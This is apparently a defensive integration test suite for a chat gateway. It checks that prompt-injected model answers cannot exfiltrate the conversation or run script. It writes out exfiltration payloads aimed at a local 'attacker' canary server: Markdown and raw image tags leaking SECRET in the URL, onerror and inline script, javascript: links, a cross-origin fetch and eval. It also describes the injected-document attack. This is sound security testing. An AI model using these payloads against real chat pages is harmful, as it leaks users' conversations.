"""The chat page holds model output that tries to run script or leak the chat (issue #19).

A model that read a hostile document can be made to write Markdown that, once rendered,
fetches ``http://attacker/leak.png?q=<the conversation>``: the browser sends the secret as it
loads the "image", with no click. Two walls stand against that and against script in an
answer: the page's renderer and DOMPurify (``gateway/static/chat.js``) decide what becomes
markup, and the Content-Security-Policy (``gateway/routes/page.py``) decides what the browser
may load or run. Each wall is proven here on its own, in Chromium, against the real gunicorn
gateway and a real worker: the first with an answer streamed through the whole stack, the
second with hostile markup put straight into the page's DOM, past the renderer.

The "attacker" is a canary HTTP server on 127.0.0.1 on a port of its own (so another origin
than the gateway) that records every request: a leak is any request it receives. The fake
upstream quotes the prompt in its answer ("You said: «…»"), so typing the attack makes the
model answer with it, as a prompt-injected model would.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page

from tests.helpers.stack import RestartableGateway as Gateway

from .conftest import open_page
from .test_chat_page import LAST_ANSWER, send, set_model, stored_conversation, wait_status

pytestmark = pytest.mark.integration

# A 1x1 transparent GIF: were the canary's "image" ever loaded, it would load cleanly
# (no onerror), so only the canary's log tells a leak.
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)

# Runs before the page's own scripts in every document of the context (Playwright injects
# it over CDP, so the page's CSP does not apply to it). Records each CSP violation.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI});
});
"""


class Canary:
    """An HTTP server on 127.0.0.1 that records the path of every request it receives."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(GIF)))
                self.send_header("Access-Control-Allow-Origin", "*")  # a willing attacker
                self.end_headers()
                self.wfile.write(GIF)

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> Canary:
        self.thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with Canary() as server:
        yield server


@pytest.fixture
def watched_page(browser: Browser, browser_gateway: Gateway, canary: Canary) -> Iterator[Page]:
    """The chat page with CSP violations recorded in ``window.__violations`` from the first
    script on; the canary's log is emptied first so each test sees only its own leaks."""
    assert canary.origin != browser_gateway.url  # another port: another origin
    canary.requests.clear()
    with open_page(browser, browser_gateway.url + "/", RECORD_VIOLATIONS) as page:
        yield page


def csp_directives(gateway: Gateway) -> dict[str, list[str]]:
    response = httpx.get(gateway.url + "/")
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    directives: dict[str, list[str]] = {}
    for part in policy.split(";"):
        name, *sources = part.split()
        directives[name.lower()] = [s.lower() for s in sources]
    return directives


def test_the_page_csp_allows_no_inline_or_eval_script_and_no_foreign_image(
    browser_gateway: Gateway,
) -> None:
    """The header on ``/`` itself, parsed: script only from the page's own origin (no
    'unsafe-inline', 'unsafe-eval', wildcard or host), images only from it or data: URLs,
    and no fallback wider than that for what the two directives do not name."""
    csp = csp_directives(browser_gateway)
    assert csp["script-src"] == ["'self'"]
    assert set(csp["img-src"]) <= {"'self'", "data:"}
    assert csp["default-src"] == ["'self'"]
    assert csp["connect-src"] == ["'self'"]  # no fetch() to another origin either
    assert csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]


def test_an_answer_that_tries_to_leak_or_run_script_sends_nothing_and_runs_nothing(
    watched_page: Page, canary: Canary
) -> None:
    """The known exfiltration through a Markdown image, a raw <img> to the attacker, an
    onerror handler, an inline script and a javascript: link, as one answer streamed through
    the gateway and worker. The renderer stops them all before the CSP has to: the answer has
    no <img> at all (a Markdown image shows as a link to it), raw HTML shows as text, and the
    canary hears nothing even after every link but the attacker's is clicked."""
    page = watched_page
    attack = (
        f'![x]({canary.origin}/leak.png?q=SECRET) <img src="{canary.origin}/raw.png"> '
        '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
        "[a](javascript:window.__pwned=3)"
    )
    assert len(attack) <= 200  # the fake upstream quotes up to 200 characters
    set_model(page, "openai")
    send(page, attack)
    wait_status(page, "succeeded")
    assert attack in stored_conversation(page)[-1]["content"]  # the model did say it
    answer = page.locator(f"{LAST_ANSWER} >> .body")
    assert answer.locator("img, script, [onerror]").count() == 0
    assert f'<img src="{canary.origin}/raw.png">' in answer.inner_text()  # shown as text
    hrefs: list[str | None] = answer.locator("a").evaluate_all(
        "els => els.map(e => e.getAttribute('href'))"
    )
    assert f"{canary.origin}/leak.png?q=SECRET" in hrefs  # the image, as a link to click
    assert not any(h and h.lower().startswith("javascript") for h in hrefs)
    for link in answer.locator("a").all():
        if not (link.get_attribute("href") or "").startswith(canary.origin):
            link.click()
    page.wait_for_timeout(300)  # time for any load the page did start to reach the canary
    assert canary.requests == []
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.__violations") == []  # nothing even reached the CSP


def test_the_csp_alone_blocks_a_foreign_image_and_inline_script_put_into_the_page(
    watched_page: Page, canary: Canary
) -> None:
    """The second wall without the first: hostile markup put straight into the answer area,
    as if the renderer or DOMPurify had a hole. Chromium refuses each for the CSP (a
    violation of that directive is recorded), so the canary hears nothing and no script
    runs: an <img> and a fetch() to another origin, an inline <script> element, an inline
    onerror handler, a javascript: link clicked, and eval."""
    page = watched_page
    page.evaluate(
        """origin => {
          const area = document.getElementById("messages");
          const img = document.createElement("img");
          img.src = origin + "/direct.png?q=SECRET";
          area.append(img);
          const script = document.createElement("script");
          script.textContent = "window.__pwned = 1";
          area.append(script);
          const handler = document.createElement("img");
          handler.setAttribute("onerror", "window.__pwned = 2");
          handler.src = "/no-such-image.png";
          area.append(handler);
          const link = document.createElement("a");
          link.href = "javascript:window.__pwned = 3";
          link.id = "js-link";
          link.textContent = "click";
          area.append(link);
          fetch(origin + "/fetch?q=SECRET").catch(() => {});
        }""",
        canary.origin,
    )
    page.click("#js-link")
    # later, from the page's own task queue: DevTools' evaluate itself may eval
    evaluated = page.evaluate(
        """() => new Promise((done) => setTimeout(() => {
          try { eval("window.__pwned = 4"); done("ran"); } catch (e) { done(e.name); }
        }))"""
    )
    assert evaluated == "EvalError"
    expected = [
        ("connect-src", f"{canary.origin}/fetch?q=SECRET"),
        ("img-src", f"{canary.origin}/direct.png?q=SECRET"),
        ("script-src", "eval"),
        ("script-src-attr", "inline"),  # the onerror handler
        ("script-src-elem", "inline"),  # the <script> element
        ("script-src-elem", "inline"),  # the javascript: link
    ]
    page.wait_for_function(f"window.__violations.length >= {len(expected)}", timeout=5_000)
    recorded = sorted((v["directive"], v["blocked"]) for v in page.evaluate("window.__violations"))
    assert recorded == expected
    assert canary.requests == []
    assert page.evaluate("window.__pwned") is None


def test_the_canary_hears_the_same_image_when_the_csp_is_bypassed(
    browser: Browser, browser_gateway: Gateway, canary: Canary
) -> None:
    """The control that makes "the canary heard nothing" mean something: with Chromium told
    to ignore the page's CSP, the very same injected <img> reaches the canary, so neither
    the network nor the canary was what kept the other tests quiet."""
    canary.requests.clear()
    context = browser.new_context(bypass_csp=True)
    try:
        page = context.new_page()
        page.goto(browser_gateway.url + "/")
        page.evaluate(
            """origin => {
              const img = document.createElement("img");
              img.src = origin + "/control.png";
              document.getElementById("messages").append(img);
            }""",
            canary.origin,
        )
        page.wait_for_function(
            "() => document.querySelector('#messages img').complete", timeout=5_000
        )
        assert canary.requests == ["/control.png"]
    finally:
        context.close()
